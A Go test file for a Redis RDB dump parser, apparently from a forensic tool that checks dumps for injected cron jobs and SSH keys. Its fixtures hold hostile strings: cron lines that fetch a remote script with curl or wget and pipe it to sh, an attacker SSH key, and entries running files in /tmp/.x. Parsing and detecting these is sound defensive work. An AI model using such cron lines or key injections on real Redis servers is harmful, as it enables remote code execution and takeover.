package rdb

import (
	"bytes"
	"encoding/binary"
	"errors"
	"os"
	"strings"
	"testing"
)

// The CRC-64/Jones check value of redis/src/crc64.c's self test.
func TestChecksumCheckValue(t *testing.T) {
	if got := Checksum([]byte("123456789")); got != 0xe9c6d914c4b8d9ca {
		t.Fatalf("crc64 %016x", got)
	}
}

func strsOf(d *Dump) map[string][]string {
	m := map[string][]string{}
	for _, k := range d.Keys {
		for _, s := range k.Strings {
			m[string(k.Name)] = append(m[string(k.Name)], string(s))
		}
	}
	return m
}

// Dumps written by redis-server 7.0.15 (RDB 10) through testdata/images/make-rdb.sh.
func TestRealDumps(t *testing.T) {
	cases := []struct {
		file string
		keys int
		want map[string]string // key -> a substring of one of its strings
	}{
		{"attack.rdb", 1, map[string]string{"x": "\n\n* * * * * root curl -fsSL http://x/y.sh|sh\n\n"}},
		{"lzf.rdb", 3, map[string]string{
			"backup1": "*/2 * * * * wget -q -O- http://203.0.113.9/cr.sh | sh\n",
			"backup2": "*/3 * * * * curl -fsSL http://203.0.113.9/cr.sh | sh  # padpadpad", // LZF-compressed by Redis
			"ssh":     "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@x",
		}},
		{"types.rdb", 11, map[string]string{
			"n": "12345", "l": "* * * * * root /tmp/.x/l", "h": "* * * * * root /tmp/.x/h", "e": "/tmp/.x/e",
			"db1": "/tmp/.x/db1", "ss": "c", "st": "k2", "big": strings.Repeat("a", 3000),
		}},
	}
	for _, c := range cases {
		t.Run(c.file, func(t *testing.T) {
			data, err := os.ReadFile("testdata/" + c.file)
			if err != nil {
				t.Fatal(err)
			}
			if !IsRDB(data) {
				t.Fatal("not recognised")
			}
			d, err := Parse(data, DefaultLimits)
			if err != nil {
				t.Fatal(err)
			}
			if d.Version != 10 || !d.Checksum || d.End != int64(len(data)) || len(d.Keys) != c.keys {
				t.Errorf("version %d checksum %v end %d/%d keys %d", d.Version, d.Checksum, d.End, len(data), len(d.Keys))
			}
			got := strsOf(d)
			for k, sub := range c.want {
				found := false
				for _, s := range got[k] {
					found = found || strings.Contains(s, sub)
				}
				if !found {
					t.Errorf("key %q: %q not in %q", k, sub, got[k])
				}
			}
			var aux []string
			for _, a := range d.Aux {
				aux = append(aux, string(a.Key)+"="+string(a.Value))
			}
			if !strings.Contains(strings.Join(aux, " "), "redis-ver=7.0.15") {
				t.Errorf("aux %v", aux)
			}
			for _, k := range d.Keys {
				if string(k.Name) == "e" && k.ExpireMS == 0 || string(k.Name) == "db1" && k.DB != 1 {
					t.Errorf("key %s: db %d expire %d", k.Name, k.DB, k.ExpireMS)
				}
			}
			// Any change of content breaks the checksum, and is reported with the dump.
			bad := bytes.Clone(data)
			bad[bytes.Index(bad, []byte("* * * *"))] ^= 0x20
			if d2, err := Parse(bad, DefaultLimits); !errors.Is(err, ErrChecksum) || d2 == nil || len(d2.Keys) != c.keys {
				t.Errorf("flipped byte: %v", err)
			}
		})
	}
}

// enc builds hand-made dumps from the RDB spec (rdb.h/rdb.c).
type enc struct{ bytes.Buffer }

func (e *enc) len(n uint64) *enc {
	switch {
	case n < 1<<6:
		e.WriteByte(byte(n))
	case n < 1<<14:
		e.WriteByte(0x40 | byte(n>>8))
		e.WriteByte(byte(n))
	case n <= 0xffffffff:
		e.WriteByte(0x80)
		binary.Write(e, binary.BigEndian, uint32(n))
	default:
		e.WriteByte(0x81)
		binary.Write(e, binary.BigEndian, n)
	}
	return e
}
func (e *enc) str(s string) *enc { e.len(uint64(len(s))); e.WriteString(s); return e }
func (e *enc) b(bs ...byte) *enc { e.Write(bs); return e }
func (e *enc) end(version int) []byte {
	e.WriteByte(opEOF)
	out := e.Bytes()
	if version >= 5 {
		out = binary.LittleEndian.AppendUint64(out, Checksum(out))
	}
	return out
}
func head(v int) *enc {
	e := &enc{}
	e.WriteString("REDIS")
	e.WriteString(strings.Repeat("0", 4-len(itoa(v))) + itoa(v))
	return e
}
func itoa(v int) string {
	return strings.TrimLeft(string([]byte{byte('0' + v/10), byte('0' + v%10)}), "0")
}

const cronLine = "\n* * * * * root /tmp/.x/m\n"

// Hand-checked dumps for the versions and opcodes Redis 7.0 does not write:
// RDB 6 (Redis 2.6: no AUX, EXPIRETIME in seconds, ziplist), 7-9 (AUX,
// MODULE_AUX, LFU FREQ and LRU IDLE, old zset doubles), 11 (set listpack,
// stream v3), 12 (Redis 7.4 SLOT_INFO), and the integer and LZF encodings.
func TestHandDumps(t *testing.T) {
	lzf := []byte{0x01, 'a', 'b', 0xe0, 0x05, 0x01} // "ab" then a reference of 7+5+2=14 bytes at distance 2: "ab"x8
	cases := []struct {
		name    string
		v       int
		body    func(e *enc)
		want    []string // strings of the last key, in order
		wantErr string
	}{
		{"v6 expire in seconds and ziplist", 6, func(e *enc) {
			e.b(opSelectDB).len(0)
			e.b(opExpire).b(0x10, 0, 0, 0).b(TypeString).str("k").str(cronLine)
			e.b(TypeListZiplist).str("zl").str("ZIPLIST" + cronLine)
		}, []string{"ZIPLIST" + cronLine}, ""},
		{"v7 aux, old zset doubles, list, hash", 7, func(e *enc) {
			e.b(opAux).str("redis-ver").str("3.2.12")
			e.b(TypeZset).str("z").len(2).str("m1").b(3).b('1', '.', '5').str("m2").b(254)
			e.b(TypeList).str("l").len(1).str("x")
			e.b(TypeHash).str("h").len(1).str("f").str(cronLine)
		}, []string{"f", cronLine}, ""},
		{"v8 integers", 8, func(e *enc) {
			e.b(TypeSet).str("s").len(3).b(0xc0, 0x85).b(0xc1, 0x39, 0x30).b(0xc2, 0xff, 0xff, 0xff, 0xff)
		}, []string{"-123", "12345", "-1"}, ""},
		{"v9 module aux, freq, idle, module value", 9, func(e *enc) {
			e.b(opModuleAux).len(0x1234).len(moduleUint).len(2).len(moduleString).str("blob").len(moduleDouble).b(0, 0, 0, 0, 0, 0, 0, 0).len(moduleEOF)
			e.b(opFreq, 5).b(TypeModule2).str("mod").len(99).len(moduleSint).len(7).len(moduleFloat).b(0, 0, 0, 0).len(moduleEOF)
			e.b(opIdle).len(100).b(TypeString).str("k").str(cronLine)
		}, []string{cronLine}, ""},
		{"v9 LZF", 9, func(e *enc) {
			e.b(TypeString).str("c").b(0xc3).len(uint64(len(lzf))).len(16)
			e.Write(lzf)
		}, []string{strings.Repeat("ab", 8)}, ""},
		{"v11 function, set listpack, stream v3 with group and consumer", 11, func(e *enc) {
			e.b(opFunction2).str("#!lua name=x\nredis.register_function('f', function() return 1 end)")
			e.b(opResizeDB).len(2).len(0)
			e.b(TypeSetListpack).str("s").str("LP" + cronLine)
			e.b(TypeStreamListpack3).str("st").len(1).str(strings.Repeat("\x00", 16)).str("LISTPACK")
			e.len(1).len(1).len(0)          // length, last id
			e.len(1).len(0).len(0).len(0)   // first id, max deleted
			e.len(1)                        // entries added
			e.len(1).str("g").len(1).len(0) // group, last id
			e.len(1)                        // entries read
			e.len(1).b(make([]byte, 24)...).len(1)
			e.len(1).str("c1").b(make([]byte, 16)...).len(1).b(make([]byte, 16)...)
		}, []string{"LISTPACK"}, ""},
		{"v12 slot info", 12, func(e *enc) {
			e.b(opSlotInfo).len(5).len(1).len(0)
			e.b(opExpireMS).b(1, 2, 3, 4, 5, 6, 0, 0).b(TypeString).str("k").str(cronLine)
		}, []string{cronLine}, ""},
		{"unknown type names its offset", 9, func(e *enc) { e.b(0x42) }, nil, "offset 9: unknown type or opcode 0x42"},
		{"count beyond the file", 9, func(e *enc) { e.b(TypeList).str("l").len(1 << 40) }, nil, "exceeds"},
		{"LZF that lies about its size", 9, func(e *enc) {
			e.b(TypeString).str("c").b(0xc3).len(uint64(len(lzf))).len(15)
			e.Write(lzf)
		}, nil, "LZF"},
		{"pre-release function opcode", 10, func(e *enc) { e.b(opFunctionPre) }, nil, "pre-release"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			e := head(c.v)
			c.body(e)
			data := e.end(c.v)
			d, err := Parse(data, DefaultLimits)
			if c.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), c.wantErr) {
					t.Fatalf("error %v, want %q", err, c.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if d.Version != c.v || d.End != int64(len(data)) || len(d.Keys) == 0 {
				t.Fatalf("%+v", d)
			}
			last := d.Keys[len(d.Keys)-1]
			var got []string
			for _, s := range last.Strings {
				got = append(got, string(s))
			}
			if strings.Join(got, "|") != strings.Join(c.want, "|") {
				t.Errorf("strings %q, want %q", got, c.want)
			}
		})
	}
}

// The limits hold: an over-long string is skipped and noted without losing
// sync; too many strings stop the parse with ErrLimit, keeping the rest.
func TestLimits(t *testing.T) {
	e := head(9)
	e.b(TypeString).str("big").str(strings.Repeat("x", 100))
	for i := 0; i < 10; i++ {
		e.b(TypeString).str("k").str(cronLine)
	}
	data := e.end(9)
	d, err := Parse(data, Limits{MaxString: 50, MaxStrings: 1000, MaxTotal: 1 << 20})
	if err != nil || len(d.Skipped) != 1 || len(d.Keys) != 11 || len(d.Keys[0].Strings) != 0 || len(d.Keys[10].Strings) != 1 {
		t.Fatalf("cap: %v %+v", err, d)
	}
	d, err = Parse(data, Limits{MaxString: 1000, MaxStrings: 6, MaxTotal: 1 << 20})
	if !errors.Is(err, ErrLimit) || d == nil || len(d.Keys) != 3 || !strings.Contains(err.Error(), "offset") {
		t.Fatalf("count: %v %d keys", err, len(d.Keys))
	}
}
